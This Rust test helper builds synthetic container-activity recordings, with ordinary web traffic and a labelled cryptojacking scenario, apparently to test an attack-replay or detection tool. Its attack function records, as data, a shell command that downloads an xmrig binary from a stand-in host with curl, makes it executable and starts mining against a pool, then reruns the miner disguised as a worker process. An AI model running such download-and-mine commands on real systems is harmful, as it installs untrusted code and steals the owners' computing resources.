//! A recording made up event by event, in the shape of the webapp and xmrig scenarios.
#![allow(dead_code, reason = "each test file uses a part of it")]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;

use datasets::{
    Accounting, Common, Container, DnsEvent, Event, FileEvent, Kernel, Label, Manifest, NetworkEvent, Origin, Process,
    ProcessEvent, Recorder, RecordingWriter,
};
use record_bpf::{Class, Kind};

pub const BEGIN: i64 = 1_760_000_000_000_000_000;
pub const SECOND: i64 = 1_000_000_000;
pub const APP: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
pub const WEB: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
const POOL: &str = "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc";
const WALLET: &str = "4RetroscopeStandInMadeUpWalletNotARealAddress0000000000000000000000000000000000000000000000000";

/// Runs the binary with `args`, without colour.
pub fn replay(args: &[&str]) -> Output {
    replay_with(args, &[])
}

/// The same with environment variables.
pub fn replay_with(args: &[&str], vars: &[(&str, &str)]) -> Output {
    // Never the user's own cache.
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("cache");
    Command::new(env!("CARGO_BIN_EXE_replay"))
        .args(args)
        .env("NO_COLOR", "1")
        .envs(vars.iter().copied())
        .env("XDG_CACHE_HOME", cache)
        .output()
        .expect("the binary runs")
}

pub fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A recording in the making.
pub struct Script {
    events: Vec<Event>,
    processes: Vec<Process>,
    labels: Vec<Label>,
    seq: u64,
    exec_id: u64,
    act: Option<(&'static str, &'static str)>,
    replicas: Vec<Container>,
}

impl Script {
    /// Two containers with their main processes running.
    pub fn new() -> Self {
        let mut script = Self {
            events: Vec::new(),
            processes: Vec::new(),
            labels: Vec::new(),
            seq: 0,
            exec_id: 100,
            act: None,
            replicas: Vec::new(),
        };
        script.snapshot(1, APP, "/usr/bin/python3", &["python3", "/usr/bin/gunicorn", "app:application"]);
        script.snapshot(2, WEB, "/usr/sbin/nginx", &["nginx: worker process"]);
        script
    }

    /// A further container of the app's image, with its main process `exec_id`. `id`: 64 characters.
    pub fn replica(&mut self, exec_id: u64, id: &str, name: &str, address: &str) {
        self.replicas.push(container(id, name, "localhost/shop/app:1", address, name));
        self.snapshot(exec_id, id, "/usr/bin/python3", &["python3", "/usr/bin/gunicorn", "app:application"]);
    }

    fn snapshot(&mut self, exec_id: u64, container: &str, exe: &str, argv: &[&str]) {
        let mut process = self.process(exec_id, container, exe, argv);
        process.origin = Origin::Snapshot;
        self.processes.push(process);
    }

    fn process(&self, exec_id: u64, container: &str, exe: &str, argv: &[&str]) -> Process {
        Process {
            exec_id,
            parent_exec_id: None,
            prev_exec_id: None,
            origin: Origin::Exec,
            container: Some(container.into()),
            pid: 1000 + exec_id as u32,
            ns_pid: Some(exec_id as u32),
            start: None,
            end: None,
            exe: Some(exe.into()),
            argv: Some(argv.iter().map(|arg| Arc::from(*arg)).collect()),
            cwd: Some("/".into()),
            comm: None,
            uid: Some(33),
            gid: Some(33),
            exe_memfd: false,
            exe_deleted: false,
            argv_truncated: false,
            exit_code: None,
            exit_signal: None,
        }
    }

    fn common(&mut self, ts: i64, kind: Kind, exec_id: u64) -> Common {
        let container = self.processes.iter().find(|p| p.exec_id == exec_id).and_then(|p| p.container.clone());
        let pid = 1000 + exec_id as u32;
        let seq = self.seq;
        self.seq += 1;
        if let Some((act, technique)) = self.act {
            let label = Label {
                class: kind.class(),
                cpu: 0,
                seq,
                act: act.into(),
                step: act.into(),
                technique: technique.into(),
                ambiguous: false,
            };
            self.labels.push(label);
        }
        Common { ts, cpu: 0, seq, kind, container, pid, tid: pid, exec_id: Some(exec_id) }
    }

    /// `parent` runs a program; returns its incarnation.
    pub fn exec(&mut self, ts: i64, parent: u64, exe: &str, argv: &[&str]) -> u64 {
        self.exec_id += 1;
        let id = self.exec_id;
        let container = self.processes.iter().find(|p| p.exec_id == parent).and_then(|p| p.container.clone());
        let mut process = self.process(id, container.as_deref().unwrap_or(""), exe, argv);
        process.parent_exec_id = Some(parent);
        process.start = Some(ts);
        self.processes.push(process);
        let common = self.common(ts, Kind::Exec, id);
        self.events.push(Event::Process(ProcessEvent {
            parent_exec_id: Some(parent),
            exe: Some(exe.into()),
            exe_inode: Some(1),
            exe_dev: Some(1),
            exe_memfd: Some(false),
            exe_deleted: Some(false),
            argv: Some(argv.iter().map(|arg| Arc::from(*arg)).collect()),
            argv_truncated: Some(false),
            cwd: Some("/".into()),
            uid: Some(33),
            gid: Some(33),
            ..ProcessEvent::new(common)
        }));
        id
    }

    /// Opens a file. `flags`: O_*; `ret`: a descriptor or -errno.
    pub fn open(&mut self, ts: i64, who: u64, path: &str, flags: u32, ret: i32) {
        let common = self.common(ts, Kind::Open, who);
        self.file(common, path, Some(flags), None, ret);
    }

    pub fn chmod(&mut self, ts: i64, who: u64, path: &str, mode: u32) {
        let common = self.common(ts, Kind::Chmod, who);
        self.file(common, path, None, Some(mode), 0);
    }

    fn file(&mut self, common: Common, path: &str, flags: Option<u32>, mode: Option<u32>, ret: i32) {
        self.events.push(Event::File(FileEvent {
            path: Some(path.into()),
            ret,
            fd: Some(3),
            flags,
            mode,
            inode: Some(7),
            dev: Some(1),
            ..FileEvent::new(common)
        }));
    }

    pub fn connect(&mut self, ts: i64, who: u64, peer: &str, port: u16) {
        let common = self.common(ts, Kind::Connect, who);
        self.events.push(Event::Network(NetworkEvent {
            local_addr: Some("10.89.0.2".into()),
            local_port: Some(40_000),
            peer_addr: Some(peer.into()),
            peer_port: Some(port),
            ret: -115,
            fd: 5,
            inode: Some(9),
            ..NetworkEvent::new(common, "inet", "tcp")
        }));
    }

    /// A connection is closed, over which so many bytes were sent.
    pub fn close(&mut self, ts: i64, who: u64, peer: &str, port: u16, sent: u64) {
        let common = self.common(ts, Kind::NetClose, who);
        self.events.push(Event::Network(NetworkEvent {
            local_addr: Some("10.89.0.2".into()),
            local_port: Some(40_000),
            peer_addr: Some(peer.into()),
            peer_port: Some(port),
            fd: 5,
            inode: Some(9),
            bytes_sent: Some(sent),
            bytes_received: Some(0),
            socket_type: Some("stream".into()),
            ..NetworkEvent::new(common, "inet", "tcp")
        }));
    }

    /// An answer that a process received: `question` is at `address`.
    pub fn answer(&mut self, ts: i64, who: u64, server: &str, question: &str, address: &str) {
        let common = self.common(ts, Kind::DnsAnswer, who);
        self.events.push(Event::Dns(DnsEvent {
            common,
            direction: "received".into(),
            protocol: "udp".into(),
            local_addr: Some("10.89.0.2".into()),
            local_port: 40_001,
            peer_addr: Some(server.into()),
            peer_port: 53,
            peer_from_user: false,
            fd: 6,
            inode: 10,
            bytes: 64,
            id: Some(7),
            opcode: Some("query".into()),
            rcode: Some("NOERROR".into()),
            question: Some(question.into()),
            qtype: Some("A".into()),
            answers: Some(vec![format!("{question} A {address}").into()]),
            truncated: Some(false),
            malformed: false,
            cut: false,
            more: None,
        }));
    }

    /// Ordinary life from `from` to `to` (seconds): every second a page, every five a look-up, every seven a job.
    pub fn ordinary(&mut self, from: i64, to: i64) {
        for second in from..to {
            let ts = BEGIN + second * SECOND;
            self.open(ts, 2, "/srv/web/index.html", 0, 4);
            self.connect(ts + 1, 2, "10.89.0.2", 8000);
            self.open(ts + 2, 1, &format!("/srv/app/data/items/{}.json", second % 50), 0, 4);
            self.connect(ts + 3, 1, "10.89.0.4", 6379);
            if second % 5 == 0 {
                let host = ["cache", "web", "app"][(second / 5 % 3) as usize];
                let command = format!("getent hosts {host}");
                let sh = self.exec(ts + 4, 1, "/usr/bin/dash", &["/bin/sh", "-c", &command]);
                self.open(ts + 5, sh, "/etc/ld.so.cache", 0, 3);
                let getent = self.exec(ts + 6, sh, "/usr/bin/getent", &["getent", "hosts", host]);
                self.open(ts + 7, getent, "/etc/hosts", 0, 3);
            }
            if second % 7 == 0 {
                let id = (second * 131).to_string();
                let argv = [
                    "/srv/app/bin/worker",
                    "--job",
                    "report",
                    "--id",
                    &id,
                    "--format",
                    "csv",
                    "--input",
                    "/srv/app/data/items",
                ];
                let worker = self.exec(ts + 8, 1, "/srv/app/bin/worker", &argv);
                self.open(ts + 9, worker, "/srv/app/data/items", 0o200_000, 3);
            }
        }
    }

    /// Both acts of the xmrig scenario, from `at` and `at + 60` seconds on.
    pub fn attack(&mut self, at: i64) {
        let mut ts = BEGIN + at * SECOND + 500_000_000;
        let mut tick = || {
            ts += 1_000_000;
            ts
        };
        self.act = Some(("exploit-and-mine", "T1496"));
        let sh = self.exec(tick(), 1, "/usr/bin/dash", &["/bin/sh", "-c", "getent hosts cache; curl -fsS -o /tmp/.x/xmrig http://cdn.updates.example/xmrig; chmod +x /tmp/.x/xmrig"]);
        let curl = self.exec(
            tick(),
            sh,
            "/usr/bin/curl",
            &["curl", "-fsS", "-o", "/tmp/.x/xmrig", "http://cdn.updates.example/xmrig"],
        );
        self.open(tick(), curl, "/etc/ssl/openssl.cnf", 0, 3);
        self.connect(tick(), curl, "203.0.113.9", 80);
        self.open(tick(), curl, "/tmp/.x/xmrig", 0o1101, 4);
        let chmod = self.exec(tick(), sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/.x/xmrig"]);
        self.chmod(tick(), chmod, "/tmp/.x/xmrig", 0o755);
        let arguments = ["-o", "stratum+tcp://pool.minexmr.com:3333", "-u", WALLET, "-p", "x", "--donate-level", "1"];
        let sh = self.exec(
            tick(),
            1,
            "/usr/bin/dash",
            &["/bin/sh", "-c", &format!("/tmp/.x/xmrig {} &", arguments.join(" "))],
        );
        let mut argv = vec!["/tmp/.x/xmrig"];
        argv.extend(arguments);
        let miner = self.exec(tick(), sh, "/tmp/.x/xmrig", &argv);
        self.connect(tick(), miner, "10.89.1.9", 3333);

        let mut ts = BEGIN + (at + 60) * SECOND + 500_000_000;
        self.act = Some(("masquerade", "T1496"));
        argv[0] = "/srv/app/bin/worker";
        let worker = self.exec(ts, 1, "/srv/app/bin/worker", &argv);
        ts += 1_000_000;
        self.connect(ts, worker, "10.89.1.9", 3333);
        self.act = None;
    }

    pub fn write(self, dir: &Path) -> PathBuf {
        self.write_with(dir, |_| {})
    }

    /// `change`: the manifest, before anything is written.
    pub fn write_with(mut self, dir: &Path, change: impl FnOnce(&mut Manifest)) -> PathBuf {
        let recorder = Recorder { name: "record".to_owned(), version: "0.1.0".to_owned() };
        let kernel = Kernel { release: "6.18.0".to_owned(), machine: "x86_64".to_owned() };
        let mut manifest = Manifest::new(recorder, kernel, BEGIN, Vec::new(), &Class::ALL);
        change(&mut manifest);
        let mut writer = RecordingWriter::create(dir, manifest).unwrap();
        self.events.sort_by_key(|event| (event.common().ts, event.common().cpu, event.common().seq));
        for event in &self.events {
            writer.push(event).unwrap();
        }
        writer.write_processes(&self.processes).unwrap();
        let containers = [
            container(APP, "app", "localhost/shop/app:1", "10.89.0.2", "app"),
            container(WEB, "web", "localhost/shop/web:1", "10.89.0.3", "web"),
            container(POOL, "pool", "localhost/shop/attacker:1", "10.89.1.9", "pool.minexmr.com"),
        ];
        let containers: Vec<Container> = containers.into_iter().chain(self.replicas).collect();
        writer.write_containers(&containers).unwrap();
        writer.write_labels(&self.labels).unwrap();
        let end = self.events.last().map_or(BEGIN, |event| event.common().ts);
        writer.finish(Accounting::default(), end).unwrap();
        dir.to_owned()
    }
}

fn container(id: &str, name: &str, image: &str, address: &str, alias: &str) -> Container {
    Container {
        id: id.into(),
        runtime: Some("podman".to_owned()),
        name: Some(name.to_owned()),
        image: Some(image.to_owned()),
        addresses: vec![address.to_owned()],
        aliases: vec![alias.to_owned()],
        cgroup: format!("/{id}"),
        first_seen: BEGIN,
        ..Container::default()
    }
}

/// An ordinary morning with the attack after 180 s.
pub fn attacked(dir: &Path) -> PathBuf {
    let mut script = Script::new();
    script.ordinary(0, 280);
    script.attack(180);
    script.write(dir)
}

/// The same without the attack.
pub fn ordinary(dir: &Path) -> PathBuf {
    let mut script = Script::new();
    script.ordinary(0, 280);
    script.write(dir)
}
